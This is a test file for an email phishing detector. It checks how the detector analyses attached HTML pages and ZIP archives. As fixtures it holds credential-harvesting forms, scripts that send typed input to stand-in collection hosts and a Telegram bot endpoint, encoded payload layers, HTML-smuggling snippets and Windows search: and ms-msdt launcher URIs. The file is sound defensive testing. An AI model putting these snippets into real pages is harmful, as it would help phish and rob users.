import { describe, expect, it } from 'vitest';
import { createEngine } from '../../src/app/engine.js';
import { readAttachedPage } from '../../src/core/email/signals/attached-page.js';
import { summariseParsed } from '../../src/adapters/workers/protocol.js';
import { fixture } from '../helpers/engine.js';
import { noteWithFiles } from '../helpers/mime.js';
import { makeZip } from '../../scripts/make-office-fixtures.js';

/** The mailbox's own receiving server writes Authentication-Results as mx.example.org. */
const engine = createEngine({ trustedAuthServIds: ['mx.example.org'] });
const read = (html: string) => readAttachedPage(new TextEncoder().encode(html));
const percent = (s: string) =>
  [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('');

/** A short note from `from` with `page` attached as `name`. */
const withPage = (page: string, name = 'Remittance.html', from = 'Accounts <ap@supplier-pay.example>') =>
  noteWithFiles([{ name, type: 'text/html', content: page }], {
    from,
    to: 'alex@example.org',
    subject: 'Remittance advice',
    note: 'Please find the remittance advice attached.',
  });

const ids = async (raw: Buffer) => (await engine.analyzeRaw(raw)).analysis.indicators.map((i) => i.id);

describe('reading an attached page', () => {
  it('finds a password form and where it sends', () => {
    const page = read(
      '<form action="https://login-check.example/p.php" method="post"><input type="password"></form>',
    );
    expect(page.asksPassword).toBe(true);
    expect(page.sendsTo).toEqual(['https://login-check.example/p.php']);
    expect(page.links).toContain('https://login-check.example/p.php');
  });

  it('finds where a script sends what is typed', () => {
    const page = read(`<script>
      fetch("https://api.telegram.org/bot123:AAB/sendMessage", { method: "POST" });
      xhr.open("POST", "https://collect.example/a.php");
      $.ajax({ url: 'https://drop.example/x', type: 'POST' });
    </script>`);
    expect(page.sendsTo).toEqual(
      expect.arrayContaining([
        'https://api.telegram.org/bot123:AAB/sendMessage',
        'https://collect.example/a.php',
        'https://drop.example/x',
      ]),
    );
  });

  it('finds a redirect on opening, by script or by meta refresh', () => {
    expect(read('<script>window.location.href = "https://next.example/vm";</script>').redirectsTo).toEqual([
      'https://next.example/vm',
    ]);
    expect(read("<script>location.replace('https://next.example/a')</script>").redirectsTo).toEqual([
      'https://next.example/a',
    ]);
    expect(read('<meta content="0; url=https://next.example/b" http-equiv="refresh">').redirectsTo).toEqual([
      'https://next.example/b',
    ]);
    // A link the reader may click is a link, not a redirect.
    expect(read('<a href="https://next.example/c">Open</a>').redirectsTo).toEqual([]);
  });

  it('reads through a layer encoded with unescape, atob or a data: URI', () => {
    const form = '<form action="https://hidden.example/p"><input type="password"></form>';
    const escaped = read(`<script>document.write(unescape('${percent(form)}'))</script>`);
    expect([escaped.asksPassword, escaped.sendsTo, escaped.decoders]).toEqual([
      true,
      ['https://hidden.example/p'],
      ['unescape'],
    ]);
    const b64 = Buffer.from(form.repeat(6)).toString('base64');
    expect(read(`<script>document.write(atob("${b64}"))</script>`).sendsTo).toEqual([
      'https://hidden.example/p',
    ]);
    expect(read(`<iframe src="data:text/html;base64,${b64}"></iframe>`).asksPassword).toBe(true);
  });

  it('counts a decoding call only on long encoded text, and a picture is not that', () => {
    expect(read('<script>var t = atob("aGVsbG8=");</script>').decoders).toEqual([]);
    const picture = `<img src="data:image/png;base64,${'iVBORw0KGgo'.repeat(60)}">`;
    expect(read(`${picture}<script>var t = atob(x);</script>`).decoders).toEqual([]);
    const codes = Array.from({ length: 80 }, (_, i) => 60 + (i % 40)).join(',');
    expect(read(`<script>eval(String.fromCharCode(${codes}))</script>`).decoders).toEqual([
      'String.fromCharCode',
      'eval',
    ]);
  });

  it('keeps what it collects bounded on a page that repeats one pattern', () => {
    // 250,000 requests once overflowed the call stack when their addresses were spread into a list.
    const page = read('fetch("https://'.repeat(250_000));
    expect(page.sendsTo.length).toBeLessThanOrEqual(50);
    expect(page.links.length).toBeLessThanOrEqual(50);
  });

  it('finds a file built in the browser (HTML smuggling)', () => {
    expect(
      read(`<script>var b = new Blob([bytes], {type: "application/octet-stream"});
        var a = document.createElement("a"); a.href = URL.createObjectURL(b); a.download = "Invoice.iso";</script>`)
        .buildsFile,
    ).toBe(true);
    expect(read('<a download="x.zip" href="data:application/zip;base64,UEsDBA==">Save</a>').buildsFile).toBe(
      true,
    );
    expect(read('<script>var b = new Blob(["x"]);</script>').buildsFile).toBe(false);
  });
});

describe('Windows protocol handlers', () => {
  const share = String.raw`search:query=Invoice&crumb=location:\\203.0.113.7@80\Documents&displayname=Invoice`;

  it('finds one an attached page opens, by meta refresh, script or link, and no word "Search:"', () => {
    expect(read(`<meta http-equiv="refresh" content="0; url=${share}">`).launches).toEqual([share]);
    expect(read(`<script>window.location.href = '${share}';</script>`).launches).toEqual([share]);
    expect(read('<a href="ms-msdt:/id PCWDiagnostic /skip force">Fix</a>').launches).toEqual(['ms-msdt:/id']);
    expect(
      read('<p>Search: "invoices"</p><input placeholder="Search: name or number"><p>search:query=</p>')
        .launches,
    ).toEqual([]);
  });

  it('says so for a page and for a link in the message', async () => {
    const found = (await engine.analyzeRaw(withPage(`<script>location.replace("${share}")</script>`)))
      .analysis;
    const launcher = found.indicators.find((i) => i.id === 'attachments.page_launcher');
    expect(launcher?.explanation).toContain('run its search: protocol');
    expect(launcher?.evidence).toEqual([`Remittance.html: ${share}`]);
    const link = Buffer.from(
      [
        'From: Accounts <ap@supplier-pay.example>',
        'To: alex@example.org',
        'Subject: Remittance advice',
        'MIME-Version: 1.0',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<p>Please see the <a href="${share.replace(/&/g, '&amp;')}">remittance advice</a>.</p>`,
        '',
      ].join('\r\n'),
    );
    const { analysis } = await engine.analyzeRaw(link);
    expect(analysis.indicators.map((i) => i.id)).toContain('links.launcher_url');
    expect(analysis.risk_score).toBeGreaterThanOrEqual(50);
    // An ordinary page and link: neither.
    const plain = await ids(
      withPage('<p>Search: <a href="https://supplier-pay.example/search?q=x">here</a></p>'),
    );
    expect(plain).not.toContain('attachments.page_launcher');
    expect(plain).not.toContain('links.launcher_url');
  });
});

describe('an attached page in the analysis', () => {
  it('scores a voicemail page that sends a password to a chat bot as HIGH, naming the bot', async () => {
    const { analysis } = await engine.analyzeRaw(fixture('phishing-voicemail-page.eml'));
    const form = analysis.indicators.find((i) => i.id === 'attachments.page_form');
    expect(form?.severity).toBe('critical');
    expect(form?.explanation).toContain(
      'asks for a password and sends what is typed into it to telegram.org',
    );
    expect(form?.evidence[0]).toContain('VM_Message_0042.htm: https://api.telegram.org/bot');
    expect(analysis.risk_level).toBe('HIGH');
    expect(analysis.summary).toContain('telegram.org');
  });

  it('names the page that redirects, builds a file or hides its script', async () => {
    expect(
      await ids(withPage('<script>top.location = "https://pay-portal.example/inv";</script>')),
    ).toContain('attachments.page_redirect');
    expect(
      await ids(withPage('<script>var b=new Blob([d]);navigator.msSaveOrOpenBlob(b,"inv.iso")</script>')),
    ).toContain('attachments.page_builds_file');
    const hidden = `<script>eval(atob("${Buffer.from('alert(1);'.repeat(40)).toString('base64')}"))</script>`;
    expect(await ids(withPage(hidden))).toContain('attachments.page_encoded_script');
    // An SVG is a page too.
    expect(
      await ids(
        withPage(
          '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://x.example/"</script></svg>',
          'scan.svg',
        ),
      ),
    ).toContain('attachments.page_redirect');
  });

  it('calls a form without a password sent elsewhere suspicious, not a fake sign-in page', async () => {
    const { analysis } = await engine.analyzeRaw(
      withPage('<form action="https://survey.example/submit"><input name="answer"></form>'),
    );
    const form = analysis.indicators.find((i) => i.id === 'attachments.page_form');
    expect([form?.severity, form?.explanation]).toEqual([
      'high',
      expect.stringMatching(/^The attached page sends what is typed into it to survey\.example/),
    ]);
  });

  it("does not flag a form without a password that goes to the sender's own server (Proofpoint's envelope)", async () => {
    const envelope =
      '<form method="post" action="https://securemail.clinic-north.example/formpostdir/securereader"><input type="hidden" name="msg" value="ZW5jcnlwdGVk"><button>Click to read message</button></form>';
    const from = 'Clinic North <notices@clinic-north.example>';
    expect(await ids(withPage(envelope, 'SecureMessageAtt.html', from))).not.toContain(
      'attachments.page_form',
    );
    // From anyone else, the same form sends what it holds elsewhere.
    expect(await ids(withPage(envelope, 'SecureMessageAtt.html'))).toContain('attachments.page_form');
  });

  it("does not flag a secure-mail envelope's password form that opens the message through its service", async () => {
    const { analysis } = await engine.analyzeRaw(fixture('legit-secure-envelope.eml'));
    expect(analysis.indicators.map((i) => i.id)).not.toContain('attachments.page_form');
    expect(analysis.risk_level).toBe('SAFE');
    // The same page from an unknown sender's own server is a fake page's form.
    const own = '<form action="https://secure.supplier-pay.example/open"><input type="password"></form>';
    expect(await ids(withPage(own))).toContain('attachments.page_form');
    // From a well-known sender's own server, it is its envelope.
    const known = own.replace('secure.supplier-pay.example', 'securemail.chase.com');
    expect(await ids(withPage(known, 'securedoc.html', 'Chase <securemessage@chase.com>'))).not.toContain(
      'attachments.page_form',
    );
  });

  it("offers the page's targets among the message's links", async () => {
    const { parsed } = await engine.analyzeRaw(fixture('phishing-voicemail-page.eml'));
    expect(summariseParsed(parsed).links).toContain(
      'https://api.telegram.org/bot7781234567:AAHk3vQx9Zs/sendMessage',
    );
  });
});

describe('a page inside a ZIP attached', () => {
  const stealer = '<form action="https://login-check.example/p.php"><input type="password"></form>';
  const withZip = (zip: Buffer) =>
    noteWithFiles([{ name: 'Remittance.zip', type: 'application/zip', content: zip }], {
      from: 'Accounts <ap@supplier-pay.example>',
      to: 'alex@example.org',
      subject: 'Remittance advice',
      note: 'Please find the remittance advice attached.',
    });
  const indicators = async (zip: Buffer) => (await engine.analyzeRaw(withZip(zip))).analysis.indicators;

  it('is named, and read as an attached page is', async () => {
    const found = await indicators(makeZip([{ name: 'docs/Remittance.html', data: stealer }]));
    expect(found.find((i) => i.id === 'attachments.archive_page')?.evidence).toEqual([
      'Remittance.zip: docs/Remittance.html',
    ]);
    const form = found.find((i) => i.id === 'attachments.page_form');
    expect([form?.severity, form?.evidence]).toEqual([
      'critical',
      ['Remittance.zip/docs/Remittance.html: https://login-check.example/p.php'],
    ]);
    expect(found.map((i) => i.id)).not.toContain('attachments.archive');
  });

  it('reads the first four pages, not an encrypted one, and a ZIP of no page is only an archive', async () => {
    const page = (n: number, data = '<p>Remittance</p>') => ({ name: `p${n}.htm`, data });
    const fourth = await indicators(makeZip([page(1), page(2), page(3), page(4, stealer)]));
    expect(fourth.map((i) => i.id)).toContain('attachments.page_form');
    const fifth = await indicators(makeZip([page(1), page(2), page(3), page(4), page(5, stealer)]));
    expect(fifth.map((i) => i.id)).toEqual(expect.arrayContaining(['attachments.archive_page']));
    expect(fifth.map((i) => i.id)).not.toContain('attachments.page_form');
    const locked = await indicators(makeZip([{ ...page(1, stealer), encrypted: true }]));
    expect(locked.map((i) => i.id)).toEqual(
      expect.arrayContaining(['attachments.archive_page', 'attachments.encrypted_archive']),
    );
    expect(locked.map((i) => i.id)).not.toContain('attachments.page_form');
    const plain = await indicators(makeZip([{ name: 'figures.csv', data: 'a,b\n1,2' }]));
    expect(plain.map((i) => i.id)).toContain('attachments.archive');
    expect(plain.map((i) => i.id)).not.toContain('attachments.archive_page');
  });
});
